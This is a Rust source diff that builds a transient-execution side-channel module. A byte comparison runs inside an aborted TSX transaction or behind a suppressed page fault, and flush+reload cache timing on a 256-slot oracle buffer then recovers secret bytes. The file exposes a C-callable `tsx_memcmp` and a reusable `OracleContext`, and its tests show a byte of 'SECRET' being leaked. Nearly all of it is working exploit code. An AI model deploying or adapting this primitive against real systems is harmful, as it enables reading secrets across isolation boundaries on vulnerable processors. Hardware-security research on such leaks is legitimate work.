@@ -1,73 +1,324 @@
-#[cfg(target_arch = "x86_64")]
-use core::arch::x86_64::{_mm_clflush, _mm_lfence, _mm_mfence};
-use std::time::Instant;
+use core::arch::x86_64::_mm_mfence;
+use std::sync::atomic::AtomicU8;
+use std::sync::OnceLock;
 use std::arch::asm;
-use libc::{madvise, MADV_DONTNEED};
+use libc::c_int;
 
-const CACHE_HIT_THRESHOLD: u64 = 80;
-const ORACLE_SIZE: usize = 256 * 4096;
-const STRESS_REGIONS: usize = 4;
+use crate::cache::flush_reload::{self, Calibration, MonitorSet};
+use crate::fault::PageBuffer;
+use crate::timer;
 
+const DEFAULT_STRIDE: usize = 4096;
+const DEFAULT_SLOTS: usize = 256;
+
+/// How the oracle-touching loop was kept from committing architecturally.
+/// Either way it only leaves cache state behind. The discriminants are what
+/// `tsx_memcmp` returns to C.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+#[repr(C)]
+pub enum Suppression {
+    /// Inside an RTM transaction that is explicitly aborted once the loop
+    /// has run.
+    Rtm = 0,
+    /// In the shadow of a faulting load whose SIGSEGV handler resumes past
+    /// it; used when the CPU has no RTM or the transaction aborted early.
+    Signal = 1,
+}
+
+/// RTM as reported by CPUID. Microcode that disables TSX clears this bit,
+/// so `xbegin` is only ever executed when it cannot raise SIGILL.
+pub fn rtm_available() -> bool {
+    static RTM: OnceLock<bool> = OnceLock::new();
+    *RTM.get_or_init(|| crate::arch::cpuinfo::cpuid().rtm)
+}
+
+// Stand-in line touched for matching bytes, outside every oracle.
+static SINK: AtomicU8 = AtomicU8::new(0);
+
+/// Touches the slot of every secret byte that differs from `input`. It runs
+/// only transiently, where an untrained branch on `s != c` would go either
+/// way, so the slot is selected with a mask instead.
+#[inline(always)]
+unsafe fn touch_oracle(secret: *const u8, input: *const u8, len: usize, oracle: *const u8, stride: usize, slots: usize) {
+    // Plain pointer arithmetic keeps debug builds free of precondition
+    // checks, which would otherwise use up the transient window.
+    let sink = SINK.as_ptr() as usize;
+    let mut i = 0;
+    while i < len {
+        let s = *secret.wrapping_add(i);
+        let c = *input.wrapping_add(i);
+        let diff = (s ^ c) as usize;
+        let differs = ((diff | diff.wrapping_neg()) >> (usize::BITS - 1)).wrapping_neg();
+        let slot = (oracle as usize).wrapping_add(s as usize % slots * stride);
+        let line = (slot & differs) | (sink & !differs);
+        core::arch::asm!("mov {0}, byte ptr [{1}]", out(reg_byte) _, in(reg) line, options(nostack, readonly, preserves_flags));
+        i += 1;
+    }
+}
+
+const LOOP_DONE: u32 = 0xFF;
+const SHADOW_TRIES: usize = 4;
+
+/// Returns `true` if the loop ran to the end before the transaction was
+/// rolled back by our own `xabort`, rather than by a conflict or interrupt.
+#[inline(always)]
+unsafe fn run_in_transaction(secret: *const u8, input: *const u8, len: usize, oracle: *const u8, stride: usize, slots: usize) -> bool {
+    // `xbegin` leaves EAX alone when the transaction starts and jumps to
+    // the fallback label, here the next instruction, with the abort status
+    // in EAX when it is rolled back.
+    let mut status = u32::MAX;
+    asm!("xbegin 2f",
+         "2:",
+         inout("eax") status,
+         options(nostack)
+    );
+
+    if status == u32::MAX {
+        touch_oracle(secret, input, len, oracle, stride, slots);
+        asm!("xabort {0}", const LOOP_DONE, options(nostack, noreturn));
+    }
+    status & 1 != 0 && status >> 24 == LOOP_DONE
+}
+
+/// Runs the oracle-touching loop transiently: under RTM if possible, in the
+/// shadow of a faulting load otherwise.
+unsafe fn suppressed_compare(secret: *const u8, input: *const u8, len: usize, oracle: *const u8, stride: usize, slots: usize) -> Suppression {
+    if rtm_available() && run_in_transaction(secret, input, len, oracle, stride, slots) {
+        Suppression::Rtm
+    } else {
+        // The fault can retire before the shadowed loop reaches a given
+        // byte, so give each byte a few chances to land in the oracle.
+        for _ in 0..SHADOW_TRIES {
+            crate::fault::with_fault_suppression(|| touch_oracle(secret, input, len, oracle, stride, slots));
+        }
+        Suppression::Signal
+    }
+}
+
+/// A leaked byte value and how often its slot was hot.
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub struct Candidate {
+    pub byte: u8,
+    pub hits: usize,
+    /// Fraction of rounds in which the slot was a hit.
+    pub confidence: f64,
+}
+
+#[derive(Debug, Clone)]
+pub struct OracleResult {
+    /// `Rtm` only if every round reached its own `xabort`.
+    pub mechanism: Suppression,
+    pub rounds: usize,
+    /// Slots that were hit at least once, most frequent first.
+    pub candidates: Vec<Candidate>,
+}
+
+impl OracleResult {
+    pub fn best(&self) -> Option<&Candidate> {
+        self.candidates.first()
+    }
+}
+
+/// A flush+reload oracle buffer with a calibrated hit threshold, allocated
+/// once and reused across comparisons.
+pub struct OracleContext {
+    buffer: PageBuffer,
+    monitor: MonitorSet,
+    stride: usize,
+}
+
+impl OracleContext {
+    pub fn new() -> Option<Self> {
+        Self::with_layout(DEFAULT_STRIDE, DEFAULT_SLOTS)
+    }
+
+    /// `slots` lines `stride` bytes apart. Byte values are folded modulo
+    /// `slots`. Strides below a page let the prefetcher pull in
+    /// neighbouring slots. `None` if the stride is under a cache line, the
+    /// slot count is outside 1..=256 or the buffer cannot be mapped.
+    pub fn with_layout(stride: usize, slots: usize) -> Option<Self> {
+        if stride < 64 || !(1..=256).contains(&slots) {
+            return None;
+        }
+        let mut buffer = PageBuffer::new(stride.checked_mul(slots)?)?;
+        // Back every slot with its own page instead of the shared zero page.
+        for slot in buffer.as_mut_slice().chunks_mut(stride) {
+            slot[0] = 1;
+        }
+        let monitor = unsafe { MonitorSet::strided(buffer.as_ptr(), stride, slots) };
+        Some(Self { buffer, monitor, stride })
+    }
+
+    pub fn stride(&self) -> usize {
+        self.stride
+    }
+
+    pub fn slots(&self) -> usize {
+        self.monitor.len()
+    }
+
+    pub fn calibration(&self) -> Calibration {
+        self.monitor.calibration()
+    }
+
+    pub fn threshold(&self) -> u64 {
+        self.monitor.threshold()
+    }
+
+    pub fn monitor(&self) -> &MonitorSet {
+        &self.monitor
+    }
+
+    /// Re-measures the hit threshold; see `Calibration::from_samples`.
+    pub fn calibrate(&mut self) -> Calibration {
+        self.monitor.calibrate()
+    }
+
+    /// Runs `rounds` suppressed comparisons of `secret` against `input` and
+    /// ranks the slots that came back hot.
+    ///
+    /// # Safety
+    ///
+    /// `secret` and `input` must be valid for `len` reads.
+    pub unsafe fn run(&mut self, secret: *const u8, input: *const u8, len: usize, rounds: usize) -> OracleResult {
+        let slots = self.slots();
+        let mut counts = vec![0usize; slots];
+        let mut mechanism = Suppression::Rtm;
+        for _ in 0..rounds {
+            self.monitor.flush_all();
+            let m = suppressed_compare(secret, input, len, self.buffer.as_ptr(), self.stride, slots);
+            if m == Suppression::Signal {
+                mechanism = Suppression::Signal;
+            }
+            for (count, hit) in counts.iter_mut().zip(self.monitor.probe_hits()) {
+                *count += hit as usize;
+            }
+        }
+
+        let mut candidates: Vec<Candidate> = counts
+            .iter()
+            .enumerate()
+            .filter(|&(_, &hits)| hits > 0)
+            .map(|(byte, &hits)| Candidate {
+                byte: byte as u8,
+                hits,
+                confidence: hits as f64 / rounds as f64,
+            })
+            .collect();
+        candidates.sort_by(|a, b| b.hits.cmp(&a.hits).then(a.byte.cmp(&b.byte)));
+        OracleResult { mechanism, rounds, candidates }
+    }
+}
+
+/// One-shot form kept for C callers: touches `oracle` (256 slots, 4 KiB
+/// apart), writes each slot's reload latency in `timer::default_timer`
+/// cycles, overhead subtracted, to `results` and
+/// returns the `Suppression` used as an `int`. Prefer `OracleContext`,
+/// which keeps the buffer and threshold around.
+///
+/// # Safety
+///
+/// `secret` and `input` must be valid for `len` reads, `oracle` must span
+/// 256 * 4096 bytes and `results` must have room for 256 entries.
 #[inline(never)]
 #[no_mangle]
-pub unsafe fn tsx_memcmp(
+pub unsafe extern "C" fn tsx_memcmp(
     secret: *const u8,
     input: *const u8,
     len: usize,
     oracle: *mut u8,
     results: *mut u64
-) {
-    let stress_size = 1024 * 1024;
-    let stress_regions: Vec<*mut u8> = (0..STRESS_REGIONS)
-        .map(|_| {
-            let layout = std::alloc::Layout::from_size_align(stress_size, 4096).unwrap();
-            std::alloc::alloc(layout)
-        })
-        .collect();
-
-    for i in 0..ORACLE_SIZE {
-        _mm_clflush(oracle.add(i));
-    }
-    for region in &stress_regions {
-        for i in (0..stress_size).step_by(64) {
-            _mm_clflush(region.add(i));
-        }
-        madvise(*region as *mut libc::c_void, stress_size, MADV_DONTNEED);
+) -> c_int {
+    // Calibrated on first use, which must not happen between the compare
+    // and the reloads.
+    let timer = timer::default_timer();
+    for i in 0..DEFAULT_SLOTS {
+        flush_reload::flush(oracle.add(i * DEFAULT_STRIDE));
     }
     _mm_mfence();
 
-    let mut status: i32;
-    asm!("xbegin 2f",
-         "mov {0}, 0",
-         "jmp 3f",
-         "2:",
-         "mov {0}, 1",
-         "3:",
-         out(reg) status,
-         options(nostack)
-    );
+    let mechanism = suppressed_compare(secret, input, len, oracle, DEFAULT_STRIDE, DEFAULT_SLOTS);
 
-    if status == 0 {
-        for i in 0..len {
-            let s = *secret.add(i);
-            let c = *input.add(i);
-            if s != c {
-                let _ = *oracle.add(s as usize * 4096);
+    // Slots in ascending order would let the next-page prefetcher pull in
+    // each one ahead of its reload; 167 is odd, so this visits all 256.
+    for step in 0..DEFAULT_SLOTS {
+        let i = (step * 167 + 13) % DEFAULT_SLOTS;
+        *results.add(i) = flush_reload::reload_with(timer, oracle.add(i * DEFAULT_STRIDE));
+    }
+    mechanism as c_int
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_runs_without_rtm() {
+        let _timing = crate::cache::timing_lock();
+        let layout = std::alloc::Layout::from_size_align(DEFAULT_SLOTS * DEFAULT_STRIDE, 4096).unwrap();
+        let oracle = unsafe { std::alloc::alloc_zeroed(layout) };
+        // Give every slot its own page rather than the shared zero page.
+        for i in 0..DEFAULT_SLOTS {
+            unsafe { *oracle.add(i * DEFAULT_STRIDE) = 1 };
+        }
+        let secret = b"SECRET";
+        // Only the first byte differs, so only its slot should be cached.
+        // An untouched slot now and then reads as a hit too, so compare
+        // each slot's median latency over several runs.
+        let mut runs = vec![[0u64; 256]; 9];
+        for results in &mut runs {
+            let mechanism = unsafe {
+                tsx_memcmp(secret.as_ptr(), b"XECRET".as_ptr(), secret.len(), oracle, results.as_mut_ptr())
+            };
+            if !rtm_available() {
+                assert_eq!(mechanism, Suppression::Signal as c_int);
             }
         }
-        asm!("xend", options(nostack));
+        unsafe { std::alloc::dealloc(oracle, layout) };
+        let median = |slot: usize| {
+            let mut t: Vec<u64> = runs.iter().map(|r| r[slot]).collect();
+            t.sort_unstable();
+            t[t.len() / 2]
+        };
+        let fastest = (0..256).min_by_key(|&slot| median(slot)).unwrap();
+        assert_eq!(fastest, b'S' as usize, "slot {} at {} cycles, 'S' at {}", fastest, median(fastest), median(b'S' as usize));
     }
 
-    for i in 0..256 {
-        let addr = oracle.add(i * 4096);
-        let start = Instant::now();
-        let _ = *addr;
-        let delta = start.elapsed().as_nanos() as u64;
-        *results.add(i) = delta;
+    #[test]
+    fn test_rejects_invalid_layout() {
+        assert!(OracleContext::with_layout(32, 16).is_none());
+        assert!(OracleContext::with_layout(4096, 0).is_none());
+        assert!(OracleContext::with_layout(4096, 257).is_none());
+        assert!(OracleContext::with_layout(usize::MAX, 2).is_none());
     }
 
-    for region in stress_regions {
-        let layout = std::alloc::Layout::from_size_align(stress_size, 4096).unwrap();
-        std::alloc::dealloc(region, layout);
+    #[test]
+    fn test_calibration_orders_hit_and_miss() {
+        let _timing = crate::cache::timing_lock();
+        let ctx = OracleContext::new().unwrap();
+        let cal = ctx.calibration();
+        assert!(cal.hit_median < cal.miss_median, "{:?}", cal);
+        assert!(cal.hit_median <= cal.threshold && cal.threshold < cal.miss_median, "{:?}", cal);
+    }
+
+    #[test]
+    fn test_context_ranks_leaked_byte_first() {
+        let _timing = crate::cache::timing_lock();
+        let mut ctx = OracleContext::new().unwrap();
+        let secret = b"SECRET";
+        let mut result = unsafe { ctx.run(secret.as_ptr(), b"XECRET".as_ptr(), secret.len(), 20) };
+        // A neighbour thrashing the shared L3 can wash out a whole run;
+        // recalibrate and try again before judging.
+        for _ in 0..3 {
+            if result.best().is_some_and(|b| b.byte == b'S' && b.confidence > 0.5) {
+                break;
+            }
+            std::thread::sleep(std::time::Duration::from_millis(100));
+            ctx.calibrate();
+            result = unsafe { ctx.run(secret.as_ptr(), b"XECRET".as_ptr(), secret.len(), 20) };
+        }
+        let best = result.best().unwrap();
+        assert_eq!(best.byte, b'S', "{:?}", &result.candidates[..result.candidates.len().min(5)]);
+        assert!(best.confidence > 0.5, "{:?}", best);
     }
 }